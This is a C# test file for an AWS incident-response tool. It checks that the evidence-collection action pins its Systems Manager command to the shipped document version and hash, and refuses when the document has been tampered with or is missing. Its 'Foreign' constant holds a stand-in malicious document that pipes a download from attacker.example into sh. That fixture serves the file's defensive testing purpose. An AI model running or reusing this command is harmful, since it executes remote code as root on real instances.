using System.Text.Json;
using Amazon.S3.Model;
using Amazon.SimpleSystemsManagement;
using Amazon.SimpleSystemsManagement.Model;
using ThreatResponse.Core.Responses;
using ThreatResponse.Testing;

namespace ThreatResponse.Functions.Tests;

/// <summary>
/// The evidence document runs as root on the instance, so whoever can write it must not choose what runs: against
/// moto_server, the collect action sends the command only when the account's document (its default version) is the one
/// the templates ship and the account owns it, and pins the command to exactly that version and Systems Manager's
/// SHA-256 of it. moto keeps no document pin on a command, so the request as sent is read from the recording proxy and
/// checked against botocore's SSM model.
/// </summary>
[Collection(MotoCollectionDefinition.Name)]
public sealed class EvidenceDocumentPinningTests(MotoServerFixture moto) : EvidenceWorldTest(moto)
{
    private const string Document = "ThreatResponse-CollectEvidence";

    /// <summary>A script someone with ssm:UpdateDocument would rather run as root.</summary>
    internal const string Foreign = """
        {"schemaVersion":"2.2","description":"ThreatResponse volatile-evidence collection","parameters":{"uploadUrl":{"type":"String"},"maxBytes":{"type":"String"},"label":{"type":"String"},"executionTimeout":{"type":"String"}},
         "mainSteps":[{"action":"aws:runShellScript","name":"collectEvidence","inputs":{"runCommand":["curl -s https://attacker.example/x | sh"]}}]}
        """;

    private static readonly Lazy<BotocoreModel> SsmModel = new(() => BotocoreModel.Load("ssm"));

    [Fact]
    public async Task CollectAction_ShippedDocument_CommandPinnedToTheCheckedVersionAndSystemsManagersSha256()
    {
        using var ec2 = Moto.CreateEc2Client();
        var scene = await Ec2Scene.CreateAsync(Moto, ec2);
        using var s3 = await BucketAsync();
        using var ssm = Ssm();
        var shipped = (await ssm.DescribeDocumentAsync(new DescribeDocumentRequest { Name = Document })).Document;
        // A later version nobody made the default: SendCommand by name alone runs the default, and so does ours, by number.
        await ssm.UpdateDocumentAsync(new UpdateDocumentRequest { Name = Document, Content = Foreign, DocumentVersion = "$LATEST" });
        SsmAgentStandIn.Play(World, scene.InstanceId, Writable, Violations);

        using var runtime = Configure().Runtime();
        using var output = await FunctionWorld.InvokeAsync(new CollectEvidenceAction(runtime).HandleAsync, CollectEvidenceTests.Event(scene.InstanceId));

        FunctionWorld.AssertOutcome("succeeded", output);
        Assert.Empty(Violations);
        var command = Assert.Single((await ssm.ListCommandsAsync(new ListCommandsRequest())).Commands);
        Assert.Equal(Document, command.DocumentName);
        Assert.Equal([scene.InstanceId], command.InstanceIds);

        var call = Assert.Single(World.AwsProxy.Calls, c => c.Operation == "SendCommand");
        var sent = JsonDocument.Parse(call.Body).RootElement;
        Assert.Empty(SsmModel.Value.Validate("SendCommand", sent));
        Assert.Equal("1", shipped.DocumentVersion);
        Assert.Equal("1", sent.GetProperty("DocumentVersion").GetString());
        Assert.Equal(shipped.Hash, sent.GetProperty("DocumentHash").GetString());
        Assert.Equal("Sha256", sent.GetProperty("DocumentHashType").GetString());
        Assert.Matches("^[0-9a-f]{64}$", shipped.Hash);

        var step = Step(Steps(Assert.Single(await World.NotificationsAsync())), "send-command");
        Assert.Contains($"{Document} version 1 (SHA-256 {shipped.Hash}, as shipped)", step.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Single((await s3.ListObjectsV2Async(new ListObjectsV2Request { BucketName = Bucket })).S3Objects);
    }

    [Fact]
    public async Task CollectAction_DocumentUpdatedAndMadeDefaultBySomeoneElse_RefusedNothingSent()
    {
        using var ec2 = Moto.CreateEc2Client();
        var scene = await Ec2Scene.CreateAsync(Moto, ec2);
        using var s3 = await BucketAsync();
        using var ssm = Ssm();
        var updated = await ssm.UpdateDocumentAsync(new UpdateDocumentRequest { Name = Document, Content = Foreign, DocumentVersion = "$LATEST" });
        await ssm.UpdateDocumentDefaultVersionAsync(new UpdateDocumentDefaultVersionRequest { Name = Document, DocumentVersion = updated.DocumentDescription.DocumentVersion });
        SsmAgentStandIn.Play(World, scene.InstanceId, Writable, Violations);

        using var runtime = Configure().Runtime();
        var failed = await Assert.ThrowsAsync<ResponseFailedException>(() => FunctionWorld.InvokeAsync(new CollectEvidenceAction(runtime).HandleAsync, CollectEvidenceTests.Event(scene.InstanceId)));

        Assert.Contains("refused, nothing sent", failed.Message, StringComparison.Ordinal);
        var step = Step(Steps(Assert.Single(await World.NotificationsAsync())), "send-command");
        Assert.Equal("failed", step.GetProperty("outcome").GetString());
        var detail = step.GetProperty("detail").GetString()!;
        Assert.Contains($"document {Document} in account 123456789012, Region us-east-1: version 2 (its default) has content SHA-256 ", detail, StringComparison.Ordinal);
        Assert.Contains($"ThreatResponse ships {Core.Containment.Evidence.ShippedEvidenceDocument.ContentSha256}", detail, StringComparison.Ordinal);

        // Nothing ran and nothing can land: no command, no upload URL handed out, nothing in the bucket.
        Assert.Empty((await ssm.ListCommandsAsync(new ListCommandsRequest())).Commands);
        Assert.DoesNotContain(World.AwsProxy.Calls, c => c.Operation == "SendCommand");
        Assert.Empty((await s3.ListObjectsV2Async(new ListObjectsV2Request { BucketName = Bucket })).S3Objects ?? []);
    }

    [Fact]
    public async Task CollectAction_NoDocumentInTheAccountAndRegion_RefusedNothingSent()
    {
        using var ec2 = Moto.CreateEc2Client();
        var scene = await Ec2Scene.CreateAsync(Moto, ec2);
        using var s3 = await BucketAsync();
        using var ssm = Ssm();
        await ssm.DeleteDocumentAsync(new DeleteDocumentRequest { Name = Document });
        SsmAgentStandIn.Play(World, scene.InstanceId, Writable, Violations);

        using var runtime = Configure().Runtime();
        await Assert.ThrowsAsync<ResponseFailedException>(() => FunctionWorld.InvokeAsync(new CollectEvidenceAction(runtime).HandleAsync, CollectEvidenceTests.Event(scene.InstanceId)));

        var step = Step(Steps(Assert.Single(await World.NotificationsAsync())), "send-command");
        Assert.Equal("failed", step.GetProperty("outcome").GetString());
        Assert.StartsWith($"refused, nothing sent: no Systems Manager document {Document} in account 123456789012, Region us-east-1", step.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Empty((await ssm.ListCommandsAsync(new ListCommandsRequest())).Commands);
    }

    private FunctionWorld Configure() => WithEvidenceSettings().Set("ACTION_TARGET_ARN", FunctionWorld.CollectAction);

    private AmazonSimpleSystemsManagementClient Ssm() => new(MotoServerFixture.Credentials, Moto.Configure(new AmazonSimpleSystemsManagementConfig()));
}
